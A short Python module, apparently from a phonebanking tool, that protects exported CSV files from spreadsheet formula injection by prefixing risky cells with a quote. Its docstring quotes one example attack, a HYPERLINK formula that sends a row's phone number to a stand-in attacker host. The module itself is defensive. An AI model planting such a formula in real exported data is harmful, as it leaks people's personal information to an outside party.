"""Cells that are safe to open in a spreadsheet: every CSV Phonebank writes goes through here.

Excel, LibreOffice Calc and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one), so a volunteer's name, a note or a
voter-file field like `=HYPERLINK("https://evil.example/?"&D2)` would send the row's phone
number away when a coordinator opens the file. OWASP's advice is followed: such a cell gets a
leading `'`, which the spreadsheet reads as "this is text" and does not show.

One exception, so that the files stay usable for a bulk upload: a cell that is nothing but a
number (`+15125550123`, `-3`, `2.5`) is left as it is. Digits and one sign cannot name a
function or a cell, so a spreadsheet can at most read it as that number; every other cell that
starts with a trigger character is neutralized.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def safe_cell(value: str) -> str:
    """`value`, with a leading `'` when a spreadsheet would run it as a formula."""
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[str]) -> list[str]:
    """Every cell of a row, made safe (`safe_cell`)."""
    return [safe_cell(value) for value in values]
